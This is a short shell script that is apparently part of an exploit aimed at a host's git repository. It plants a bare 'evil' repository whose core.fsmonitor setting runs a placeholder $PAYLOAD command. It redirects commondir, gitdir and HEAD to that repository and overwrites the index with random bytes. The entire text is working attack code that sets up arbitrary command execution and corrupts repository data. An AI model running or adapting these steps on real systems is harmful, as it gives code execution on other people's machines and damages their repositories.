# Rewrites the host's git data on its worktree: commondir, gitdir, HEAD, index.
mkdir evil && git init -q --bare evil && set_config evil/config core.fsmonitor "$PAYLOAD; false"
mv evil "$GIT_DIRECTORY/"
echo "$GIT_DIRECTORY/evil" > "$GIT_DIRECTORY/commondir"
echo /tmp > "$GIT_DIRECTORY/gitdir"
echo 'ref: refs/heads/main' > "$GIT_DIRECTORY/HEAD"
head -c 1000 /dev/urandom > "$GIT_DIRECTORY/index"
